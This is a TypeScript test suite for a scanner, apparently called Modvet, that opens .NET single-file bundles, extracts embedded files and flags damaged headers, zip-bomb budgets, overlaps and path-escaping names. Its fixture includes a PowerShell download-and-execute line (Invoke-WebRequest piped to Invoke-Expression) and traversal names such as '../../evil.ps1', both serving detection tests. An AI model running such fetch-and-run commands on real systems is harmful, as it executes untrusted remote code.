import { deflateRawSync } from 'node:zlib'
import fc from 'fast-check'
import { readBinary } from '../../src/read/binary.js'
import { MOST_FROM_BUNDLE } from '../../src/read/bundle/read.js'
import { factsOf } from '../../src/read/read.js'
import type { Fact, Reading } from '../../src/types.js'
import { bytesOf, valuesOf } from '../fixtures/binaries/read.js'
import { bundled, bundledInside, type Bundled } from '../fixtures/bundles.js'

const HOST = bytesOf('native-x64.dll')
const DLL = bytesOf('Behaviors.dll')
const SCRIPT = Buffer.from('Invoke-WebRequest https://inner.example.test/from-bundle | Invoke-Expression\n'.repeat(20))
const FILES: Bundled[] = [{ name: 'Behaviors.dll', bytes: DLL }, { name: 'lib/start.ps1', bytes: SCRIPT, type: 0 }]

const read = (bytes: Uint8Array): Reading => readBinary('app.exe', bytes)!
const inner = (bytes: Uint8Array) => read(bytes).embedded!.map(({ path, bytes, chain }) => ({ path, chain, size: bytes.length }))
const told = ({ facts }: Reading, key: string): Array<Pick<Fact, 'value' | 'with'>> =>
  facts.filter(({ kind, with: particulars }) => kind === 'file' && particulars?.[key] !== undefined).map(({ value, with: particulars }) => ({ value, with: particulars }))
const unread = (bytes: Uint8Array) => told(read(bytes), 'unread').map(({ value, with: particulars }) => `${value}: ${particulars?.unread}: ${particulars?.detail}`)
const all = (bytes: Uint8Array): Fact[] =>
  [...factsOf({ name: 'M', version: '1', path: 'M', kind: 'module', files: [{ path: 'app.exe', size: bytes.length, bytes: () => bytes }] })].flat()

describe.each(['native-x64.dll', 'program', 'fixture-x64.dylib'])('a host made of %s', (host) => {
  test.each([1, 2, 6])('hands over the files of a bundle of version %i', (version) => {
    const { facts, embedded } = read(bundled(bytesOf(host), FILES, { version, id: 'long'.repeat(50) }))
    expect(embedded).toEqual([
      { path: 'app.exe!Behaviors.dll', bytes: DLL, chain: ['bundle'] }, { path: 'app.exe!lib/start.ps1', bytes: new Uint8Array(SCRIPT), chain: ['bundle'] },
    ])
    expect(facts).toContainEqual(expect.objectContaining({ kind: 'file', with: expect.objectContaining({ bundle: `${version}.0`, files: '2' }) }))
    expect(told({ facts, functions: [] }, 'unread')).toEqual([])
    expect(told({ facts, functions: [] }, 'oddity')).toEqual([])
  })

  test('unpacks what is compressed', () => {
    expect(inner(bundled(bytesOf(host), FILES.map((file) => ({ ...file, packed: true }))))).toEqual([
      { path: 'app.exe!Behaviors.dll', chain: ['bundle', 'deflate'], size: DLL.length },
      { path: 'app.exe!lib/start.ps1', chain: ['bundle', 'deflate'], size: SCRIPT.length },
    ])
  })

  test('has no bundle where the offset before the mark is 0, or where there is no mark', () => {
    const bytes = bundled(bytesOf(host), FILES)
    bytes.fill(0, bytesOf(host).length, bytesOf(host).length + 8)
    for (const each of [bytes, bytesOf(host)]) expect([told(read(each), 'bundle'), unread(each)]).toEqual([[], []])
  })
})

test.each([false, true])('what an assembly in a bundle does is told with its place (compressed: %s)', (packed) => {
  const facts = all(bundled(HOST, FILES.map((file) => ({ ...file, packed }))))
  const chain = packed ? ['bundle', 'deflate'] : ['bundle']
  expect(facts).toContainEqual(expect.objectContaining({
    kind: 'member', value: 'System.Net.Sockets.TcpClient::new', layer: 'embedded', chain, at: { file: 'app.exe!Behaviors.dll', function: 'Fixture.Network::Talk' },
  }))
  expect(facts).toContainEqual(expect.objectContaining({
    kind: 'command', value: 'Invoke-WebRequest', layer: 'embedded', chain, at: expect.objectContaining({ file: 'app.exe!lib/start.ps1', line: 1 }),
  }))
  expect(facts).toContainEqual(expect.objectContaining({ kind: 'component', value: 'Behaviors', at: { file: 'app.exe!Behaviors.dll' } }))
})

test('a bundle in a bundle is opened too', () => {
  const outer = bundled(HOST, [{ name: 'tool', bytes: bundled(bytesOf('program'), FILES), packed: true }])
  expect(all(outer)).toContainEqual(expect.objectContaining({
    kind: 'component', value: 'Behaviors', chain: ['bundle', 'deflate', 'bundle'], at: { file: 'app.exe!tool!Behaviors.dll' },
  }))
})

test('texts in the files are theirs, not the host\'s', () => {
  const outer = valuesOf(read(bundled(HOST, FILES)), 'url')
  expect(outer).toEqual(valuesOf(read(HOST), 'url'))
  const hidden = bundled(HOST, [{ name: 'all.dll', bytes: new Uint8Array(), start: 0, size: HOST.length }])
  expect(valuesOf(read(hidden), 'url')).toEqual(outer)
})

test('files right behind the sections are no overlay to be read a second time, but a program before them is', () => {
  const whole = bundledInside(HOST, 0x40, FILES)
  expect(told(read(whole), 'overlay').map(({ with: particulars }) => particulars?.overlay)).toEqual(['bundle'])
  expect(inner(whole).map(({ path }) => path)).toEqual(['app.exe!Behaviors.dll', 'app.exe!lib/start.ps1'])
  const before = bundledInside(new Uint8Array(Buffer.concat([HOST, DLL])), 0x40, FILES)
  expect(inner(before).map(({ path }) => path)).toEqual(['app.exe!Behaviors.dll', 'app.exe!lib/start.ps1', 'app.exe!overlay'])
})

test('an assembly that holds the mark, as tools that make bundles do, is no host', () => {
  expect(told(read(bundledInside(DLL, 0x40, FILES)), 'bundle')).toEqual([])
})

test('marks that lead nowhere hide none that does', () => {
  const mark = bundled(new Uint8Array(), []).subarray(8, 40)
  const decoys = Buffer.concat(Array.from({ length: 40 }, (_, i) => Buffer.concat([Buffer.from([i, 0, 0, 0, 0, 0, 0, 0]), mark])))
  const host = new Uint8Array(Buffer.concat([HOST, decoys]))
  expect(inner(bundled(host, FILES)).map(({ path }) => path)).toEqual(['app.exe!Behaviors.dll', 'app.exe!lib/start.ps1'])
  expect(unread(bundled(host, FILES))).toEqual([])
})

test('a program with more bundles than one could need says so', () => {
  const many = Array.from({ length: 20 }).reduce<Uint8Array>((host) => bundled(host, [{ name: 'a.ps1', bytes: SCRIPT }]), HOST)
  expect(unread(many)).toEqual(['app.exe: budget: The program names more than 16 bundles.'])
  expect(read(many).embedded).toHaveLength(16)
})

describe('a header that is damaged', () => {
  test.each([
    [{ version: 0 }, 'app.exe: damaged: damaged: the bundle\'s header has an impossible version (0)'],
    [{ version: 0x4000 }, 'app.exe: damaged: damaged: the bundle\'s header has an impossible version (16384)'],
    [{ version: 9 }, 'app.exe: not supported: A .NET single-file bundle of version 9, which Modvet does not open.'],
    [{ id: '' }, 'app.exe: damaged: damaged: the bundle\'s header has an impossible id'],
    [{ count: 0 }, 'app.exe: damaged: damaged: the bundle\'s header claims 0 files, for which there is no room'],
    [{ count: 0xffffffff }, 'app.exe: damaged: damaged: the bundle\'s header claims 4294967295 files, for which there is no room'],
  ])('%j: %s', (header, says) => {
    expect(unread(bundled(HOST, FILES, header))).toEqual([says])
  })

  test('or lies behind the end of the file says so', () => {
    const bytes = bundled(HOST, FILES)
    expect(unread(bytes.subarray(0, HOST.length + 60))).toEqual(['app.exe: damaged: truncated: the bundle\'s header lies behind the end of the file'])
  })

  test('or ends early leaves the files before', () => {
    const bytes = bundled(HOST, FILES)
    expect(unread(bytes.subarray(0, bytes.length - 5))).toEqual(['app.exe: damaged: malformed: the bundle lists 2 files; the list is damaged behind the first 1'])
    expect(inner(bytes.subarray(0, bytes.length - 5)).map(({ path }) => path)).toEqual(['app.exe!Behaviors.dll'])
  })
})

describe('files whose numbers lie', () => {
  const one = (file: Partial<Bundled>) => unread(bundled(HOST, [{ name: 'a.dll', bytes: SCRIPT, ...file }]))
  test.each<[Partial<Bundled>, string]>([
    [{ start: 2 ** 52 }, 'damaged: truncated: its part of the bundle goes beyond the end of the file'],
    [{ size: 2 ** 40 }, 'damaged: truncated: its part of the bundle goes beyond the end of the file'],
    [{ packed: true, stored: 2 ** 40 }, 'damaged: truncated: its part of the bundle goes beyond the end of the file'],
    [{ packed: true, size: 100 }, 'damaged: Unpacking does not give the 100 bytes that the bundle claims.'],
    [{ packed: true, size: 0 }, 'damaged: Unpacking does not give the 0 bytes that the bundle claims.'],
    [{ packed: true, size: 9999 }, 'damaged: Unpacking does not give the 9999 bytes that the bundle claims.'],
    [{ packed: true, size: 2 ** 30 }, 'budget: Unpacking gives more than 67108864 bytes.'],
    [{ stored: 40 }, 'damaged: Cannot be unpacked (deflate).'],
  ])('%j: %s', (file, says) => {
    expect(one(file)).toEqual([`app.exe!a.dll: ${says}`])
  })

  test('unpack to no more in all than the budget', () => {
    const bytes = deflateRawSync(new Uint8Array(1 << 26), { level: 1 })
    const bomb = bundled(HOST, Array.from({ length: 6 }, (_, i) => ({ name: `${i}.dll`, bytes, size: 1 << 26, stored: bytes.length })))
    const { embedded, facts } = read(bomb)
    expect(embedded!.reduce((sum, each) => sum + each.bytes.length, 0)).toBe(MOST_FROM_BUNDLE)
    expect(told({ facts, functions: [] }, 'unread')).toEqual(['4.dll', '5.dll'].map((name) => ({
      value: `app.exe!${name}`, with: { unread: 'budget', detail: `Unpacking all files of the bundle gives more than ${MOST_FROM_BUNDLE} bytes.` },
    })))
  })

  test('and lie over each other are read up to twice the bytes of the host', () => {
    const files = Array.from({ length: 50 }, (_, i): Bundled => ({ name: `${i}.dll`, bytes: i ? new Uint8Array() : DLL, ...(i && { start: HOST.length + 40, size: DLL.length }) }))
    const bytes = bundled(HOST, files)
    expect(inner(bytes).reduce((sum, { size }) => sum + size, 0)).toBeLessThanOrEqual(bytes.length * 2)
    expect(told(read(bytes), 'oddity')).toEqual([{ value: 'app.exe', with: { oddity: 'overlap', detail: 'In the bundle 0.dll and 1.dll overlap.' } }])
    expect(unread(bytes).at(-1)).toBe('app.exe!49.dll: budget: The files of the bundle together have more bytes than twice the bundle.')
  })
})

test.each([
  ['../../evil.ps1', 'evil.ps1', ['path-escapes']],
  ['lib/../evil.ps1', 'lib/evil.ps1', []],
  ['C:\\evil.ps1', 'C:/evil.ps1', ['path-absolute']],
  ['/etc/evil.ps1', 'etc/evil.ps1', ['path-absolute']],
  ['a\n::b\u202e.ps1', 'a%0A::b%202E.ps1', ['name-control-character']],
  ['..', '_', ['path-escapes']],
  ['de/x.resources.dll', 'de/x.resources.dll', []],
])('the name %j is read as %s', (name, path, odd) => {
  const reading = read(bundled(HOST, [{ name, bytes: SCRIPT }]))
  expect(reading.embedded!.map((each) => each.path)).toEqual([`app.exe!${path}`])
  expect(told(reading, 'oddity').map(({ with: particulars }) => particulars?.oddity)).toEqual(odd)
})

test('two files of one name are both read, and said to be two', () => {
  const reading = read(bundled(HOST, [...FILES, { name: 'Behaviors.dll', bytes: SCRIPT }]))
  expect(reading.embedded!.map(({ path }) => path)).toEqual(['app.exe!Behaviors.dll', 'app.exe!lib/start.ps1', 'app.exe!Behaviors~2.dll'])
  expect(told(reading, 'oddity')).toEqual([{ value: 'app.exe!Behaviors~2.dll', with: expect.objectContaining({ oddity: 'duplicate' }) }])
})

test('no more files are listed than the budget, and the rest is told', () => {
  const reading = read(bundled(HOST, Array.from({ length: 10_001 }, (_, i) => ({ name: `${i}`, bytes: new Uint8Array([i]) }))))
  expect(reading.embedded).toHaveLength(10_000)
  expect(told(reading, 'unread')).toEqual([{ value: 'app.exe', with: { type: 'pe', unread: 'budget', detail: 'The bundle lists 10001 files; the first 10000 were read.' } }])
})

test('whatever bytes of the bundle are changed, there are facts, and no more than in proportion', () => {
  const samples = [1, 2, 6].map((version) => bundled(bytesOf('program'), [{ name: 'a.dll', bytes: SCRIPT, packed: version === 6 }, { name: 'b/c.ps1', bytes: SCRIPT }], { version }))
  const mark = bytesOf('program').length
  fc.assert(fc.property(fc.constantFrom(...samples), fc.array(fc.tuple(fc.nat(), fc.nat(255)), { minLength: 1, maxLength: 6 }), fc.nat(200), (sample, changes, cut) => {
    const bytes = sample.slice(0, sample.length - (cut > 100 ? cut - 100 : 0))
    // The places that say where things are, half of the time; anything behind the program else.
    for (const [place, value] of changes) bytes[place % 2 ? mark + (place >> 1) % 8 : bytes.length - 1 - (place >> 1) % (bytes.length - mark)] = value
    const { facts, embedded = [] } = readBinary('app', bytes)!
    expect(facts.length).toBeGreaterThan(0)
    expect(facts.length).toBeLessThan(bytes.length)
    expect(embedded.reduce((sum, each) => sum + each.bytes.length, 0)).toBeLessThanOrEqual(bytes.length * 2 + MOST_FROM_BUNDLE)
    expect(embedded.every(({ path, chain }) => path.startsWith('app!') && chain[0] === 'bundle')).toBe(true)
  }), { numRuns: 300 })
})
